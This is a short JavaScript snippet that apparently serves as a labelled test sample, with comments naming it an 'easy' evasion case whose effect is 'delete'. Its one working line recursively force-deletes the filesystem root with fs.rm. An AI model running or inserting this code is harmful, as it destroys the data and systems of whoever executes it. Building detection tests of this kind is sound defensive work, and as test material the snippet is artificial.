// evasion: fs.rm of the root
// grade: easy; does: delete
const fs = require('fs');
fs.rm('/', { recursive: true, force: true }, () => {});
